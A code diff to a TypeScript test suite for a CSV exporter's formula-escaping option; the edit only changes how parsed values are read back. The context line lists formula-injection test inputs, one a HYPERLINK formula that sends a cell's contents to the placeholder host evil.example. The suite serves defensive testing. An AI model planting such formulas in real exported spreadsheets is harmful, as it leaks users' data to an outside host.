@@ -15,18 +15,18 @@ export const TRIGGERS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+c
 describe('csvText with escapeFormulas', () => {
   it.each(TRIGGERS)('neutralises %j with a leading apostrophe', (cell) => {
     const text = csvText(['name'], [[cell]], { escapeFormulas: true });
-    const [, [back]] = parse(text) as string[][];
+    const back = (parse(text) as string[][])[1]![0];
     expect(back).toBe(`'${cell}`);
   });
 
   it.each(['-1', '-2.5', '0', '3.25', 'Bob', 'a=b', ' =x'])('leaves %j alone (numbers stay numbers)', (cell) => {
-    const [, [back]] = parse(csvText(['v'], [[cell]], { escapeFormulas: true })) as string[][];
+    const back = (parse(csvText(['v'], [[cell]], { escapeFormulas: true })) as string[][])[1]![0];
     expect(back).toBe(cell);
   });
 
   it('without the option, values round-trip exactly', () => {
     for (const cell of TRIGGERS.filter((c) => !c.includes('\0'))) {
-      const [, [back]] = parse(csvText(['v'], [[cell]])) as string[][];
+      const back = (parse(csvText(['v'], [[cell]])) as string[][])[1]![0];
       expect(back).toBe(cell);
     }
   });
